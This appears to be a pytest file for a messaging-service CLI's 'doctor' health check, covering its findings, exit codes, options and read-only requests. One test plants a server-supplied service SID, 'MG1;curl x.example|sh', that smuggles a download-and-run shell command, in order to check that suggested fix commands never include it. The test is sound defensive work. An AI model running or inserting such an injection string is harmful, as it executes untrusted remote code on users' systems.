"""msgsvc doctor end to end: against the emulator's unhealthy account (every check tripped by
the service named after it, the Healthy one passing), the exit codes, --fail-on, --since,
--json, named services, and the exact requests it sends (reads only, one account-wide listing
per resource)."""

from __future__ import annotations

import json

import pytest
from conftest import ACCOUNT_SID, SERVICE_SID, base_url_of, page, service
from corehelp import assert_request, sent
from emulator_helpers import EMU_ACCOUNT, EMU_TOKEN, checked_emulator
from factories import number, save_profile

# What each service of `msgsvc emulator --unhealthy` trips (without and with --since).
TRIPS = {
    "Healthy": set(),
    "No senders": {"no-senders"},
    "No campaign": {"10dlc-no-campaign"},
    "Campaign failed": {"10dlc-campaign-failed"},
    "Campaign in review": {"10dlc-campaign-in-review"},
    "Brand failed": {"10dlc-brand-not-approved"},
    "Sole proprietor": {"10dlc-sole-proprietor-unverified", "10dlc-sole-proprietor-numbers"},
    "Pool at the limit": {"pool-near-limit"},
    "Replies dropped": {"inbound-dropped"},
    "Number webhooks": {"number-webhook-missing"},
    "Plain http webhooks": {"webhook-url-unsafe"},
    "No status callback": {"no-status-callback"},
    "Obsolete fields": {"obsolete-field"},
    "Geomatch": {"geomatch-few-long-codes", "geomatch-short-code"},
    "WhatsApp offline": {"channel-sender-offline"},
    "Alerts": set(),
}
# Where the emulator serves toll-free verifications, two more services trip the toll-free checks.
TOLL_FREE_SERVED = "tollfree_verifications" in __import__("msgsvc.emulator.seed", fromlist=["seed"]).seed(EMU_ACCOUNT, EMU_TOKEN, 0)
if TOLL_FREE_SERVED:
    TRIPS.update({"Toll-free unverified": {"tollfree-unverified"}, "Toll-free rejected": {"tollfree-rejected"}})
WITH_ALERTS = {
    "No campaign": {"alerts-30034"},
    "Alerts": {"alerts-30034", "alerts-30032", "alerts-30007", "alerts-21610", "alerts-11200", "10dlc-verified-but-30034"},
}


@pytest.fixture
def unhealthy(isolated):
    for emu in checked_emulator(unhealthy=True):
        save_profile(emu.base_url, account_sid=EMU_ACCOUNT, auth_token=EMU_TOKEN, max_retries=0)
        yield emu


def names(emu) -> dict[str, str]:
    return {s["sid"]: s["friendly_name"] for s in emu.store.data["services"].values()}


def tripped(emu, out: str) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {name: set() for name in TRIPS}
    for line in out.splitlines():
        severity, sid, check, evidence, fix, source = line.split("\t")
        assert severity in ("error", "warning", "info") and source.startswith("https://www.twilio.com/docs/")
        found[names(emu)[sid]].add(check)
    return found


def test_every_check_is_tripped_by_its_service_and_the_healthy_one_passes(unhealthy, msgsvc):
    result = msgsvc("doctor")
    assert result.code == 9
    assert tripped(unhealthy, result.out) == TRIPS
    assert result.err == ("10 errors, 8 warnings, 2 info in 18 services.\n" if TOLL_FREE_SERVED
                          else "8 errors, 8 warnings, 2 info in 16 services.\n")
    assert all(r["operation"].startswith(("List", "Fetch", "api.v2010.List")) for r in unhealthy.records)


def test_since_adds_the_alerts_of_the_look_back(unhealthy, msgsvc):
    result = msgsvc("doctor", "--since", "24h")
    assert result.code == 9
    assert tripped(unhealthy, result.out) == {name: TRIPS[name] | WITH_ALERTS.get(name, set()) for name in TRIPS}
    alerts = [line for line in result.out.splitlines() if "\talerts-30034\t" in line and names(unhealthy)[line.split("\t")[1]] == "Alerts"]
    (line,) = alerts
    assert line.split("\t")[3].startswith("count=2 since=24h samples=SM")
    assert "ListAlert" in unhealthy.operations


def test_a_named_healthy_service_exits_0_with_nothing_on_stdout(unhealthy, msgsvc):
    result = msgsvc("doctor", "Healthy", "--since", "7d")
    assert (result.code, result.out, result.err) == (0, "", "No findings in 1 service.\n")


def test_fail_on_warning_and_info(unhealthy, msgsvc):
    warned = msgsvc("doctor", "Replies dropped")
    assert (warned.code, warned.err) == (0, "1 warning in 1 service.\n")
    assert msgsvc("doctor", "Replies dropped", "--fail-on", "warning").code == 9
    assert msgsvc("doctor", "No status callback", "--fail-on", "warning").code == 0
    assert msgsvc("doctor", "No status callback", "--fail-on", "info").code == 9


def test_json_is_the_findings_as_data(unhealthy, msgsvc):
    result = msgsvc("doctor", "Replies dropped", "No senders", "--json")
    assert result.code == 9
    sid = {v: k for k, v in names(unhealthy).items()}
    assert json.loads(result.out) == [
        {"severity": "warning", "service": sid["Replies dropped"], "service_name": "Replies dropped",
         "check": "inbound-dropped",
         "title": "no inbound request URL and the numbers' webhooks are not used: replies are dropped",
         "evidence": {"inbound_request_url": None, "use_inbound_webhook_on_number": False},
         "fix": f"msgsvc services update {sid['Replies dropped']} --inbound-request-url URL",
         "source": "https://www.twilio.com/docs/messaging/api/service-resource"},
        {"severity": "error", "service": sid["No senders"], "service_name": "No senders", "check": "no-senders",
         "title": "the service has no sender: every message through it fails",
         "evidence": {"phone_numbers": 0, "short_codes": 0, "alpha_senders": 0, "channel_senders": 0},
         "fix": f"msgsvc numbers attach {sid['No senders']} NUMBER",
         "source": "https://www.twilio.com/docs/messaging/services"},
    ]


def test_bad_options_and_an_unknown_service(unhealthy, msgsvc):
    bad = msgsvc("doctor", "--since", "45d")
    assert bad.code == 2 and "Monitor keeps alerts for 30 days; look back at most 30d" in bad.err
    assert "'soon' is not a duration such as 7d, 24h, 30m or 1h30m" in msgsvc("doctor", "--since", "soon").err
    assert msgsvc("doctor", "--fail-on", "fatal").code == 2
    missing = msgsvc("doctor", "Nope")
    assert missing.code == 3 and missing.err.startswith("msgsvc: no service is named 'Nope'")


# --- the exact requests, against recorded answers --------------------------------------------


def test_the_reads_are_one_listing_per_resource_and_nothing_is_written(httpserver, profile, msgsvc):
    longs = [number("PN" + "1" * 32, "+15017122661")]
    httpserver.expect_request("/v1/Services").respond_with_json(page("services", [service(status_callback=None)]))
    httpserver.expect_request("/v1/a2p/BrandRegistrations").respond_with_json(page("data", []))
    httpserver.expect_request("/v1/Alerts").respond_with_json(page("alerts", []))
    for segment, key, records in (("PhoneNumbers", "phone_numbers", longs), ("ShortCodes", "short_codes", []),
                                  ("AlphaSenders", "alpha_senders", []), ("ChannelSenders", "senders", [])):
        httpserver.expect_request(f"/v1/Services/{SERVICE_SID}/{segment}").respond_with_json(page(key, records))
    httpserver.expect_request(f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p").respond_with_json(page("compliance", []))
    httpserver.expect_request(f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers.json").respond_with_json(
        {"incoming_phone_numbers": [{"sid": "PN" + "1" * 32, "sms_url": "https://hooks.example.com/n", "sms_application_sid": None}],
         "next_page_uri": None})
    result = msgsvc("doctor", "--since", "2h", "-c", "1")
    assert result.code == 9, result.err
    assert [line.split("\t")[2] for line in result.out.splitlines()] == [
        "10dlc-no-campaign", "obsolete-field", "obsolete-field", "geomatch-few-long-codes", "no-status-callback"]
    requests = sent(httpserver)
    assert [(r.method, r.path) for r in requests] == [
        ("GET", "/v1/Services"), ("GET", "/v1/a2p/BrandRegistrations"), ("GET", "/v1/Alerts"),
        ("GET", f"/v1/Services/{SERVICE_SID}/PhoneNumbers"), ("GET", f"/v1/Services/{SERVICE_SID}/ShortCodes"),
        ("GET", f"/v1/Services/{SERVICE_SID}/AlphaSenders"), ("GET", f"/v1/Services/{SERVICE_SID}/ChannelSenders"),
        ("GET", f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p"),
        ("GET", f"/2010-04-01/Accounts/{ACCOUNT_SID}/IncomingPhoneNumbers.json")]
    assert_request(requests[0], "GET", "/v1/Services", query="PageSize=1000")
    assert requests[2].args["StartDate"].endswith("Z") and requests[2].args["PageSize"] == "1000"
    assert_request(requests[7], "GET", f"/v1/Services/{SERVICE_SID}/Compliance/Usa2p", query="PageSize=1")


def test_a_fix_names_no_command_made_of_what_the_server_calls_its_sid(httpserver, profile, msgsvc):
    import re

    from werkzeug import Response

    hostile = "MG1;curl x.example|sh"
    good = {"status_callback": "https://hooks.example.com/status", "fallback_to_long_code": False,
            "synchronous_validation": False, "area_code_geomatch": False}
    httpserver.expect_request("/v1/Services").respond_with_json(page("services", [service(hostile, **good)]))
    httpserver.expect_request("/v1/a2p/BrandRegistrations").respond_with_json(page("data", []))
    keys = {"PhoneNumbers": "phone_numbers", "ShortCodes": "short_codes", "AlphaSenders": "alpha_senders",
            "ChannelSenders": "senders"}
    httpserver.expect_request(re.compile(r"/v1/Services/.+/\w+")).respond_with_handler(
        lambda request: Response(json.dumps(page(keys[request.path.rsplit("/", 1)[1]], [])), content_type="application/json"))
    result = msgsvc("doctor")
    assert result.code == 9
    assert result.out == (f"error\t{hostile}\tno-senders\tphone_numbers=0 short_codes=0 alpha_senders=0 channel_senders=0\t"
                          "msgsvc numbers attach SERVICE NUMBER\thttps://www.twilio.com/docs/messaging/services\n")
    assert result.err == "1 error in 1 service.\n"
    assert msgsvc("doctor", "--json").out.count('"fix":"msgsvc numbers attach SERVICE NUMBER"') == 1
